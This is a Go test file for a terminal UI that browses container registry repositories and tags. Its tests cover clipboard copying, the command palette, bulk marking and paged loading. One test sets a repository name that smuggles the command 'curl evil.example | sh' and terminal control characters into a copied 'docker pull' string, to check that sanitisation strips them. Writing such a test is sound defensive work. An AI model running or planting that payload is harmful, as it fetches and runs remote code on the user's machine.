package ui_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"
	"time"

	tea "charm.land/bubbletea/v2"

	"github.com/charmbracelet/x/ansi"
	"github.com/hubtui/hubtui/hubclient"
	"github.com/hubtui/hubtui/hubclient/hubsim"
	"github.com/hubtui/hubtui/state"
	"github.com/hubtui/hubtui/ui"
	"github.com/hubtui/hubtui/ui/internal/uitest"
	"github.com/hubtui/hubtui/ui/pane"
	"github.com/hubtui/hubtui/ui/sanitize"
)

// TestCopySendsTheSanitisedName: y puts on the clipboard the same clean
// string the status line shows, never a server name's controls or newlines.
func TestCopySendsTheSanitisedName(t *testing.T) {
	d := demoDriver(t)
	rp := repoPane(d)
	evil := rp.L.Coll().Items[0]
	evil.Name = "web\n; curl evil.example | sh \x1b[31m\u202e"
	rp.L.Coll().Replace(0, evil)
	rp.L.ItemsChanged()
	rp.L.Table().SetCursor(0)
	d.Key("y")
	got := d.UntilCopied(len(d.Copied()))
	want := "docker pull " + sanitize.String("acme/"+evil.Name)
	if got != want || strings.ContainsAny(got, "\n\x1b\u202e") {
		t.Fatalf("clipboard got %q, want the sanitised %q", got, want)
	}
	if !strings.Contains(d.App.Status(), want) {
		t.Fatalf("status %q does not show what was copied (%q)", d.App.Status(), want)
	}
}

// TestPaletteSaysWhatItCannotUse: arguments a command does not take, :ctx
// without contexts, and a bare repository name completing in the current org.
func TestPaletteSaysWhatItCannotUse(t *testing.T) {
	d := demoDriver(t)
	run := func(line string) {
		d.Key(":")
		d.Type(line)
		d.Key("enter")
	}
	run("repos extra")
	if !strings.Contains(d.App.Error(), "takes no argument") {
		t.Fatalf(":repos extra: error %q", d.App.Error())
	}
	run("ctx")
	if !strings.Contains(d.App.Error(), "no contexts are configured") || strings.Contains(d.App.Error(), "(known: )") {
		t.Fatalf(":ctx without contexts: error %q", d.App.Error())
	}
	name := repoPane(d).L.Coll().Items[0].Name
	d.Key(":")
	d.Type("tags " + name[:len(name)-1])
	d.Key("tab")
	if got := d.App.PaletteValue(); !strings.HasPrefix(got, "tags "+name[:len(name)-1]) || len(got) <= len("tags "+name[:len(name)-1]) {
		t.Fatalf("tab after a bare name completed nothing: %q (want tags %s…)", got, name)
	}
	d.Key("esc")
}

// TestPersonalNamespaceIsNotCalledAnOrg: a user in no organization sees
// their own namespace as personal.
func TestPersonalNamespaceIsNotCalledAnOrg(t *testing.T) {
	_, url := uitest.StartSim(t, hubsim.Options{})
	sess := uitest.Session(t, url, "olga", "olga")
	sess.Org = ""
	d := uitest.New(t, ui.Options{Session: sess}, 120, 40)
	d.Until("the personal namespace", func() bool { return d.App.Session().Org == "olga" && reposLoaded(d)() })
	header := strings.Split(d.Screen(), "\n")[0]
	if !strings.Contains(header, "personal: olga") || strings.Contains(header, "org: olga") {
		t.Fatalf("header %q", header)
	}
}

// TestHelpNamesEveryItemOfAFailedBulkChange: the status line cuts, help does not.
func TestHelpNamesEveryItemOfAFailedBulkChange(t *testing.T) {
	d := demoDriver(t)
	d.App.SetErr(pane.Partial{Total: 5, Errs: []error{
		fmt.Errorf("v1: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
		fmt.Errorf("v2: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
		fmt.Errorf("v3: %w", &hubclient.APIError{StatusCode: 409, Detail: "tag is immutable"}),
	}})
	d.Key("?")
	lines := strings.Split(d.Screen(), "\n")
	s := strings.Join(lines[:len(lines)-2], "\n") // the help page, without the status line and footer
	for _, n := range []string{"v1:", "v2:", "v3:"} {
		if !strings.Contains(s, n) {
			t.Fatalf("help does not name %s:\n%s", n, s)
		}
	}
	if strings.Contains(s, "more)") {
		t.Fatalf("help still says (and N more):\n%s", s)
	}
}

// TestEscGluedToTheNextKeyIsBoth: esc then : typed quickly over SSH arrive
// as one alt+:, which clears the filter and opens the palette.
func TestEscGluedToTheNextKeyIsBoth(t *testing.T) {
	d := demoDriver(t)
	d.Key("/")
	d.Type("zz")
	d.Send(tea.KeyPressMsg{Code: ':', Mod: tea.ModAlt})
	if d.App.Mode() != ui.ModePalette {
		t.Fatalf("alt+: did not open the palette (mode %d)", d.App.Mode())
	}
	if q := repoPane(d).Query(); q != "" {
		t.Fatalf("the esc half did not clear the filter: %q", q)
	}
	d.Key("esc")
	// In an input, alt+b stays a word movement.
	d.Key("/")
	d.Send(tea.KeyPressMsg{Code: 'b', Mod: tea.ModAlt})
	if d.App.Mode() != ui.ModeFilter {
		t.Fatalf("alt+b left the filter (mode %d)", d.App.Mode())
	}
}

// TestQuitWhileAChangeRunsAsks: a change in flight is tracked; q asks
// before leaving, and what was cut short is reported for the way out.
func TestQuitWhileAChangeRunsAsks(t *testing.T) {
	d := demoDriver(t)
	d.Key("p", "y")
	if d.App.Running() != 1 {
		t.Fatalf("running changes: %v", d.App.RunningChanges())
	}
	d.Until("the change to finish", func() bool { return d.App.Running() == 0 })

	d.App.RunningChanges()[99] = "deleting 206 tag(s) of acme/big"
	d.Key("q")
	if d.App.Quitting() || d.App.Dialog() == nil || !strings.Contains(d.Screen(), "Quit while a change is running?") {
		t.Fatalf("q with a change running did not ask:\n%s", d.Screen())
	}
	d.Key("n")
	if d.App.Quitting() {
		t.Fatal("n quit")
	}
	d.Key("q", "y")
	if !d.App.Quitting() {
		t.Fatal("y did not quit")
	}
	if u := d.App.Unfinished(); len(u) != 1 || !strings.Contains(u[0], "deleting 206 tag(s) of acme/big") {
		t.Fatalf("unfinished: %q", u)
	}
}

// TestMarkAllAsksOnAFuzzyFilterAndNamesTheRule: ctrl+a over a fuzzy filter
// asks with the count; over an exact one it marks at once, and the bulk
// delete confirmation shows the rule that chose the rows. Another
// repository's tags start with no filter or sort.
func TestMarkAllAsksOnAFuzzyFilterAndNamesTheRule(t *testing.T) {
	d := demoDriver(t)
	items := repoPane(d).L.Coll().Items
	first, second := items[0].Namespace+"/"+items[0].Name, items[1].Namespace+"/"+items[1].Name
	tp := openTags(d, first)
	if len(tp.L.Coll().Items) < 2 {
		t.Skipf("%s has %d tags", first, len(tp.L.Coll().Items))
	}
	tag := tp.L.Coll().Items[0].Name
	filter := func(q string) {
		d.Key("/")
		for range 40 {
			d.Key("backspace")
		}
		d.Type(q)
		d.Key("enter")
		d.Until("the filter", func() bool { return !tp.L.Filtering() })
	}
	filter("'" + tag)
	d.Key("ctrl+a")
	if d.App.Mode() != ui.ModeNormal || tp.L.Table().MarkedCount() != tp.L.Visible() || tp.L.Visible() == 0 {
		t.Fatalf("exact ctrl+a: mode %d, %d marked of %d", d.App.Mode(), tp.L.Table().MarkedCount(), tp.L.Visible())
	}
	d.Key("D")
	if s := d.Screen(); !strings.Contains(s, "Chosen by:") || !strings.Contains(s, "contains") {
		t.Fatalf("the bulk confirmation does not show the rule:\n%s", s)
	}
	d.Key("esc", "esc", "esc") // the question, the filter, then the marks
	filter(tag[:1])
	d.Key("ctrl+a")
	if d.App.Dialog() == nil || !strings.Contains(d.Screen(), fmt.Sprintf("Mark all %d rows", tp.L.Visible())) || tp.L.Table().MarkedCount() != 0 {
		t.Fatalf("fuzzy ctrl+a did not ask first:\n%s", d.Screen())
	}
	d.Key("y")
	if tp.L.Table().MarkedCount() != tp.L.Visible() {
		t.Fatalf("y marked %d of %d", tp.L.Table().MarkedCount(), tp.L.Visible())
	}
	d.Key("s")
	tp = openTags(d, second)
	if tp.Query() != "" || sortCol(tp.L) != -1 || tp.L.MarkRule() != "" {
		t.Fatalf("%s opened with filter %q, sort %d, rule %q", second, tp.Query(), sortCol(tp.L), tp.L.MarkRule())
	}
}

// TestLeftMidLoadAListGoesOnFromWhereItStopped: leaving the Tags pane while
// its last page is still loading and coming back asks only for what is
// missing, not for the pages already on screen.
func TestLeftMidLoadAListGoesOnFromWhereItStopped(t *testing.T) {
	sim, err := hubsim.New(hubsim.Options{Dataset: "demo", RateLimit: -1, Clock: hubsim.NewFakeClock(uitest.FixedNow())})
	if err != nil {
		t.Fatal(err)
	}
	var mu sync.Mutex
	asked := map[string]int{} // tag list page → requests
	stall := true
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasSuffix(r.URL.Path, "/tags") {
			page := r.URL.Query().Get("page")
			mu.Lock()
			asked[page]++
			hold := stall && page == "3"
			mu.Unlock()
			if hold { // the last page hangs until the client gives up on it
				<-r.Context().Done()
				return
			}
		}
		sim.ServeHTTP(w, r)
	}))
	t.Cleanup(srv.Close)
	sess := uitest.Session(t, srv.URL, "demo", "demo", hubclient.WithPageSize(5))
	d := uitest.New(t, ui.Options{Session: sess}, 120, 40)
	d.Until("repositories", reposLoaded(d))
	r := repoPane(d).L.Coll().Items[0]
	ref := r.Namespace + "/" + r.Name
	d.Key(":")
	d.Type("tags " + ref)
	d.Key("enter")
	tp := tagPane(d)
	d.Until("two pages", func() bool { return len(tp.L.Coll().Items) == 10 })
	d.Key("1") // leave mid-load
	mu.Lock()
	stall = false
	before := map[string]int{"1": asked["1"], "2": asked["2"]}
	mu.Unlock()
	d.Key("2")
	d.Until("the rest", func() bool { return tp.L.Coll().Status == state.Loaded })
	if n := len(tp.L.Coll().Items); n != 12 {
		t.Fatalf("%d tags after resuming, want 12", n)
	}
	mu.Lock()
	defer mu.Unlock()
	if asked["1"] != before["1"] || asked["2"] != before["2"] {
		t.Fatalf("pages 1 and 2 were asked again: before %v, now %v", before, asked)
	}
}

// TestMarkedReposSayWhyChangesWaitAndTheErrorLeavesWithTheMarks: p, e and
// D with marks in Repos say why they do nothing; esc clears the marks and
// the error about them together.
func TestMarkedReposSayWhyChangesWaitAndTheErrorLeavesWithTheMarks(t *testing.T) {
	d := demoDriver(t)
	d.Key("space", "space")
	for _, k := range []string{"p", "e", "D"} {
		d.Key(k)
		if d.App.Mode() != ui.ModeNormal || !strings.Contains(d.App.Error(), "esc clears the 2 marks") {
			t.Fatalf("%s with marks: mode %d, error %q", k, d.App.Mode(), d.App.Error())
		}
	}
	d.Key("esc")
	if repoPane(d).L.Table().MarkedCount() != 0 || d.App.Error() != "" {
		t.Fatalf("after esc: %d marks, error %q", repoPane(d).L.Table().MarkedCount(), d.App.Error())
	}
}

// TestOSC52: a copy is one OSC 52 write, and inside tmux also the same
// write wrapped in tmux's passthrough.
func TestOSC52(t *testing.T) {
	if got := ui.OSC52("acme/web", false); got != "\x1b]52;c;YWNtZS93ZWI=\x07" {
		t.Fatalf("plain: %q", got)
	}
	if got := ui.OSC52("acme/web", true); got != "\x1b]52;c;YWNtZS93ZWI=\x07\x1bPtmux;\x1b\x1b]52;c;YWNtZS93ZWI=\x07\x1b\\" {
		t.Fatalf("tmux: %q", got)
	}
}

// TestFooterKeepsHelpAndQuitAt80: however many keys a page has, the footer
// at 80 columns keeps "? help" and "q quit", on every tab, with marks, in
// a pushed detail page and in the tags of a repository.
func TestFooterKeepsHelpAndQuitAt80(t *testing.T) {
	d := demoDriver(t)
	d.Send(tea.WindowSizeMsg{Width: 80, Height: 24})
	check := func(where string) {
		t.Helper()
		f := d.Footer()
		if !strings.Contains(f, "? help") || !strings.Contains(f, "q quit") || ansi.StringWidth(f) > 80 {
			t.Fatalf("%s: footer %q lacks ? help or q quit, or is wider than 80", where, f)
		}
	}
	check("repos")
	d.Key("space", "space")
	check("repos with marks")
	d.Key("esc", "enter")
	d.Until("details", func() bool { return repoPane(d).Open() != nil && repoPane(d).Open().Info() != nil })
	check("repository detail")
	d.Key("esc")
	openTags(d, "acme/web")
	check("tags")
	d.Key("space")
	check("tags with a mark")
	for i := 1; i <= len(ui.Registry()) && i <= 9; i++ {
		d.Key(fmt.Sprint(i))
		d.Settle(20 * time.Millisecond)
		check(fmt.Sprintf("tab %d (%s)", i, d.App.Top().Title()))
	}
}
